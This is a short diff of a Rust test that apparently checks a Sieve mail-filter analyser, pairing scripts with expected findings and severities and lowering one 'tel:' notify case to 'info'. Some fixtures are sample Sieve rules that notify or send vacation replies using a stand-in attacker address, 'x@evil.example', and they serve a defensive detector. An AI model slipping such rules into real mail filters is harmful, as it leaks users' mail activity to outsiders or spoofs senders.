@@ -50,7 +50,8 @@ fn every_effect_has_its_check_and_severity() {
             "require \"enotify\"; notify \"mailto:x@evil.example\";",
             "sieve.notify-external x@evil.example medium",
         ),
-        ("require \"enotify\"; notify \"tel:123\";", "sieve.notify-external tel:123 medium"),
+        // Pigeonhole refuses a script that notifies otherwise than by mail, so it never runs.
+        ("require \"enotify\"; notify \"tel:123\";", "sieve.notify-external tel:123 info"),
         (
             "require \"vacation\"; vacation :from \"x@evil.example\" \"away\";",
             "sieve.vacation-foreign x@evil.example low",
